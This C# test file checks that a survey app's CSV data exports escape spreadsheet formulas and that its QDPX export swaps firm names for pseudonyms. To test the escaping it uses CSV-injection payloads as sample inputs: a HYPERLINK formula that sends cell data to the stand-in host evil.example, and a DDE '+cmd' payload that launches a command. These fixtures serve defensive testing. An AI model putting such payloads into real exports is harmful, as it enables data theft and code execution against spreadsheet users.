using System.IO.Compression;
using System.Text;
using FieldSurvey.Core.Coding;
using FieldSurvey.Tests.Coding;
using FieldSurvey.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace FieldSurvey.Tests.Security;

/// <summary>What the exchange exports let out (issue 17, items 5 and 6).</summary>
public sealed class ExportLeakTests(ExportLeakTests.Fixture app) : IClassFixture<ExportLeakTests.Fixture>
{
    public sealed class Fixture : AppFactory;

    const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    static string Entry(byte[] zip, string name)
    {
        using var archive = new ZipArchive(new MemoryStream(zip));
        using var reader = new StreamReader(archive.GetEntry(name)!.Open(), Encoding.UTF8);
        return reader.ReadToEnd();
    }

    [Fact]
    public async Task The_data_package_escapes_formulas_unless_the_PI_chooses_exact_text_on_the_page()
    {
        var transcriptId = await app.TranscriptAsync("We work with a CRO in Daxing.", AppFactory.Coder1);
        var firmId = await app.WithAsync(async db =>
        {
            var coder = await db.Users.SingleAsync(u => u.Email == AppFactory.Coder1);
            db.Segments.Add(new Segment
            {
                TranscriptId = transcriptId, CoderId = coder.Id, Start = 0, End = 7, Quote = "We work", PartnerName = "+cmd|' /C calc'!A0",
                Memo = Formula, CreatedAtUtc = DateTimeOffset.UnixEpoch, UpdatedAtUtc = DateTimeOffset.UnixEpoch,
            });
            var firmOf = await (from t in db.Transcripts join i in db.Interviews on t.InterviewId equals i.Id where t.Id == transcriptId select i.FirmId).SingleAsync();
            var firm = await db.Firms.SingleAsync(f => f.Id == firmOf);
            firm.NameEn = "@SUM(1+1)*cmd";
            await db.SaveChangesAsync();
            return firm.Id;
        });
        var pi = await app.SignedInAsync(AppFactory.PI);

        var segments = Entry(await pi.GetByteArrayAsync("/Admin/Exchange?handler=Package"), "segments.csv");
        Assert.Contains("'=HYPERLINK(", segments);
        Assert.Contains("'+cmd|", segments);
        Assert.DoesNotContain(",=HYPERLINK", segments.Replace("\"", ""));
        var firms = Entry(await pi.GetByteArrayAsync("/Admin/Exchange?handler=Package&personalData=true"), "firms.csv");
        Assert.Contains("'@SUM(1+1)*cmd", firms);
        Assert.DoesNotContain(",@SUM", firms);

        // The unescaped variant exists only as an explicit, explained choice on the page.
        var page = await pi.GetStringAsync("/Admin/Exchange");
        Assert.Contains("name=\"exactText\"", page);
        Assert.Contains("Choose exact text only when the files go straight into R or Stata", System.Net.WebUtility.HtmlDecode(page));
        var exact = await pi.GetByteArrayAsync("/Admin/Exchange?handler=Package&exactText=true");
        Assert.Contains("\"=HYPERLINK(", Entry(exact, "segments.csv"));
        Assert.Contains("no spreadsheet formula escaping", Entry(exact, "README.md"));
        Assert.Contains($"F{firmId:D4}", segments);   // numbers and pseudonyms are not touched
    }

    [Fact]
    public async Task A_qdpx_without_personal_data_names_no_firm_and_uses_the_data_package_pseudonyms()
    {
        await app.TranscriptAsync("访谈：我们和亦庄的药厂合作。", AppFactory.Coder1);
        var pi = await app.SignedInAsync(AppFactory.PI);
        var named = await app.WithAsync(db => (from t in db.Transcripts join i in db.Interviews on t.InterviewId equals i.Id
                                               join f in db.Firms on i.FirmId equals f.Id select new { f.Id, f.NameZh, f.NameEn }).Distinct().ToListAsync());
        Assert.NotEmpty(named);

        var qde = Entry(await pi.GetByteArrayAsync("/Admin/Exchange?handler=Qdpx"), "project.qde");
        var package = Entry(await pi.GetByteArrayAsync("/Admin/Exchange?handler=Package"), "firms.csv");
        foreach (var firm in named)
        {
            Assert.DoesNotContain(firm.NameZh, qde);
            if (firm.NameEn is { Length: > 0 } en) Assert.DoesNotContain(System.Security.SecurityElement.Escape(en), qde);
            Assert.Contains($"F{firm.Id:D4}", qde);
            Assert.Contains($"F{firm.Id:D4}", package);   // the same pseudonym as the data package
        }
        var withNames = Entry(await pi.GetByteArrayAsync("/Admin/Exchange?handler=Qdpx&personalData=true"), "project.qde");
        Assert.All(named, firm => Assert.Contains(firm.NameZh, withNames));
    }
}
